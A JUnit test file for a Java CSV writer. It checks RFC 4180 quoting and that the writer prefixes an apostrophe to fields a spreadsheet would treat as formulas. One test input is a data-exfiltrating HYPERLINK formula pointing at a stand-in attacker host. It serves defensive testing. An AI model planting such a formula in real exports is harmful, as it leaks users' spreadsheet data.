package dev.madang.rest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    @Test
    void rows_are_those_of_rfc_4180_in_utf_8_with_its_mark() throws IOException {
        assertEquals("\ufeff\"a\",\"b\"\r\n\"1\",\"\ub9c8\ub2f9\"\r\n", written("1", "\ub9c8\ub2f9"));
    }

    @Test
    void quotes_commas_and_line_ends_stay_inside_their_field() throws IOException {
        assertEquals("\ufeff\"a\",\"b\"\r\n\"x\"\",\"\"y\",\"1\r\n2\"\r\n", written("x\",\"y", "1\r\n2"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                " =1",
                "\uff1d1",
                "\uff0b1",
                "\uff0d1",
                "\uff20x",
                "\u22121",
                "=HYPERLINK(\"https://evil.example?\"&A1)"
            })
    void what_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(String field) throws IOException {
        assertTrue(written(field, "b").startsWith("\ufeff\"a\",\"b\"\r\n\"'" + field.charAt(0)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Ann", "a=b", "guest:-x", "2026-11-22", "1 - 2", ""})
    void what_is_no_formula_stays_as_it_is(String field) throws IOException {
        assertEquals("\ufeff\"a\",\"b\"\r\n\"" + field + "\",\"b\"\r\n", written(field, "b"));
    }

    private static String written(String first, String second) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Csv table = new Csv(out, List.of("a", "b"));
        table.row(List.of(first, second));
        table.flush();
        return out.toString(StandardCharsets.UTF_8);
    }
}
